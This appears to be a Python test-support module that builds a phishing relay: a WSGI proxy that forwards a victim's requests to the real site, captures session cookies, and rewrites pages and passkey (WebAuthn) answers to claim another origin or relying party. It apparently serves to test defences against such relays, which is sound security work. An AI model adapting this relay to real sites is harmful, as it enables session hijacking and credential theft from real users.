"""A relay: the page that a phishing message leads to, which passes everything on to the real one and back."""

from __future__ import annotations

import html
import http.client
import json
import re
from collections.abc import Callable, Iterable
from typing import Any
from urllib.parse import urlencode

from werkzeug.wrappers import Request, Response

from keys.jose import b64u, b64u_decode
from tests.browser.workspace import Served

_KEPT = ("cookie", "content-type", "user-agent")
_DROPPED = {"connection", "transfer-encoding", "content-length", "content-security-policy", "server", "date"}


class Relay:
    """A WSGI application. ``on_page`` and ``on_answer`` are what its owner changes on the way."""

    def __init__(self, victim: Served) -> None:
        self.victim = victim
        self.stolen: list[str] = []
        """Every session token that came by."""
        self.passed: list[tuple[str, int]] = []
        """Path and status of each form that was passed on."""
        self.on_page: Callable[[str], str] = lambda page: page
        self.on_answer: Callable[[dict[str, Any]], dict[str, Any]] = lambda answer: answer
        self.served = Served(self, "other.localhost")

    def __call__(self, environ: dict[str, Any], start_response: Any) -> Iterable[bytes]:
        """Pass one request on, as if the victim's browser showed the real address."""
        request = Request(environ)
        headers = {name: request.headers[name] for name in _KEPT if name in request.headers}
        headers["Host"] = f"{self.victim.name}:{self.victim.port}"
        headers["Origin"], headers["Sec-Fetch-Site"] = self.victim.origin, "same-origin"
        connection = http.client.HTTPConnection("127.0.0.1", self.victim.port, timeout=30)
        try:
            connection.request(request.method, request.full_path.rstrip("?"), self._body(request), headers)
            answer = connection.getresponse()
            body = answer.read()
        finally:
            connection.close()
        if request.method == "POST":
            self.passed.append((request.path, answer.status))
        response = Response(self._page(body, answer), status=answer.status)
        response.headers.clear()
        for name, value in answer.getheaders():
            if name.lower() == "set-cookie":
                self.stolen += re.findall("__Host-session=([^;]+)", value)
            if name.lower() not in _DROPPED:
                response.headers.add(name, value.replace(self.victim.origin, self.served.origin))
        return response(environ, start_response)

    def _page(self, body: bytes, answer: http.client.HTTPResponse) -> bytes:
        if "text/html" not in answer.headers.get("Content-Type", ""):
            return body
        return self.on_page(body.decode()).encode()

    def _body(self, request: Request) -> bytes | None:
        if request.method != "POST":
            return None
        form = request.form.to_dict()
        if "answer" in form:
            form["answer"] = json.dumps(self.on_answer(json.loads(form["answer"])))
        return urlencode(form).encode()


def asking_for(rp_id: str) -> Callable[[str], str]:
    """Return what makes a page ask for the passkeys of another site."""

    def change(page: str) -> str:
        def replaced(found: re.Match[str]) -> str:
            options = json.loads(html.unescape(found[1]))
            return f'data-options="{html.escape(json.dumps({**options, "rpId": rp_id}))}"'

        return re.sub('data-options="([^"]+)"', replaced, page)

    return change


def claiming(origin: str) -> Callable[[dict[str, Any]], dict[str, Any]]:
    """Return what makes an answer say that it was given on another page."""

    def change(answer: dict[str, Any]) -> dict[str, Any]:
        said = json.loads(b64u_decode(answer["response"]["clientDataJSON"]))
        data = b64u(json.dumps({**said, "origin": origin}, separators=(",", ":")).encode())
        return {**answer, "response": {**answer["response"], "clientDataJSON": data}}

    return change
